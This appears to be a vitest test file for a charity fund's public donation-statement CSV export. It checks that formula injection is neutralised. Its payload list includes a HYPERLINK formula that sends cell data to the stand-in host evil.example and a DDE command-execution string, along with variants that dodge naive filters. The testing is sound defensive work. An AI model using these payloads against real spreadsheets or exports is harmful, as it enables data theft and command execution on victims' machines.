import { beforeAll, describe, expect, it } from 'vitest';
import { useWorldApp } from '../test/app';
import { makeStatementCampaign } from '../modules/fund/statements/fixtures';
import { recordDonation } from '../modules/fund/donation-service';
import { sessionAs } from '../test/factories';
import { invalidatePublicCache } from '../modules/fund/public/cache';
import { csvCell } from './csv';

const t = useWorldApp();
let campaignId = 0;

// A donor chooses the name and message recorded with a gift, which the public statement publishes.
const PAYLOADS = ['ung ho;=HYPERLINK("http://evil.example/?"&A1,"bam vao day")', "=cmd|' /C calc'!A0", ' =1+1', '\t=1+1', '＝SUM(1,2)', '@SUM(1+1)', '+84 912 345 678', '-2+3'];

beforeAll(async () => {
  const c = await makeStatementCampaign(t.db, t.w.A, { name: 'Đợt thử CSV' });
  campaignId = c.campaignId;
  const acct = await sessionAs(t.db, 'fund_accountant', t.w.A);
  for (const [i, m] of PAYLOADS.entries()) {
    await recordDonation({ db: t.db, user: acct.user }, {
      campaignId,
      receivedOn: '2024-09-15',
      amount: (i + 1) * 1000,
      donorKind: 'individual',
      accountId: c.vietin,
      donorName: m,
      memo: m,
    } as Parameters<typeof recordDonation>[1]);
  }
  invalidatePublicCache();
});

/** Splits a CSV line as a spreadsheet with separator `sep` would (quotes respected). */
function cellsOf(line: string, sep: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i];
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cur += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === sep) {
      out.push(cur);
      cur = '';
    } else cur += ch;
  }
  out.push(cur);
  return out;
}
const runsAsFormula = (cell: string) => /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell.trimStart()) || /^[\t\r]/.test(cell);

describe('CSV formula neutralisation', () => {
  it('no cell of the public statement CSV starts a formula, whether the spreadsheet splits on "," or ";"', async () => {
    const res = await t.app.inject({ method: 'GET', url: `/api/public/campaigns/${campaignId}/donations.csv` });
    expect(res.statusCode).toBe(200);
    const lines = res.body
      .replace(/^\ufeff/, '')
      .trim()
      .split('\r\n')
      .slice(1);
    expect(lines).toHaveLength(PAYLOADS.length);
    for (const sep of [',', ';']) {
      for (const line of lines) for (const cell of cellsOf(line, sep)) expect(runsAsFormula(cell), `${sep} ${line}`).toBe(false);
    }
    // The text itself is kept, behind the apostrophe.
    const names = lines.map((l) => cellsOf(l, ',')[1]);
    expect(names).toContain(PAYLOADS[0]);
    expect(names).toContain(`'${PAYLOADS[1]}`);
  });

  it('csvCell quotes separators and leaves numbers and plain text alone', () => {
    expect(csvCell('Nguyễn Thị Ánh')).toBe('Nguyễn Thị Ánh');
    expect(csvCell(500000)).toBe('500000');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('');
    expect(csvCell('=1+1')).toBe("'=1+1");
  });
});
